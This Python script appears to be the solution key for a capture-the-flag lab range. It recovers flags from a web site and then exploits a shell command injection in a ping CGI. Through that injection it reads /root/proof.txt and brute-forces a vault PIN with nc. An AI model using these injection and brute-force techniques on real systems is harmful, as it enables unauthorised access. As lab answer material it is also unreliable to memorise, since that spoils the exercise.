#!/usr/bin/env python3
"""Five flags over HTTP: two on the web site, three through the jump host's command injection."""

import os
import re
import sys
import urllib.parse
import urllib.request

web = "http://" + os.environ["FEDERANGE_ENTRY_WEB_8080"]
jump = "http://" + os.environ["FEDERANGE_ENTRY_JUMP_8081"]
FLAG = re.compile(r"FLAG\{[0-9a-f]+\}")


def get(url: str, timeout: float = 30) -> str:
    with urllib.request.urlopen(url, timeout=timeout) as answer:
        return answer.read().decode("utf-8", "replace")


def inject(command: str, timeout: float = 30) -> str:
    """The ping CGI passes its host parameter to sh -c: append a command after a ';'."""
    query = urllib.parse.urlencode({"host": f"127.0.0.1;{command}"}, quote_via=urllib.parse.quote)
    return get(f"{jump}/cgi-bin/ping?{query}", timeout)


def found(name: str, text: str) -> None:
    match = FLAG.search(text)
    print(f"RECOVERED {name} {match.group(0) if match else ''}")


found("flag_source", get(f"{web}/"))
robots = get(f"{web}/robots.txt")
hidden = re.search(r"Disallow:\s*(\S+)", robots).group(1)
notes = get(f"{web}{hidden}notes.txt")
found("flag_robots", notes)
print(notes, file=sys.stderr)
found("flag_cgi", inject("cat /home/ops/flag.txt"))
found("flag_root", inject("cat /root/proof.txt"))
# The vault listens again a moment after each session: retry a PIN whose connection got no answer.
brute = (
    "for p in $(seq 100 999); do r=''; n=0; "
    'while [ -z "$r" ] && [ $n -lt 20 ]; do r=$(echo $p | nc vault 9000 2>/dev/null); n=$((n+1)); '
    '[ -z "$r" ] && usleep 20000; done; '
    'case "$r" in *GRANTED*) echo "PIN $p"; echo "$r"; break;; esac; done'
)
answer = inject(brute, timeout=240)
print(answer, file=sys.stderr)
found("flag_vault", answer)
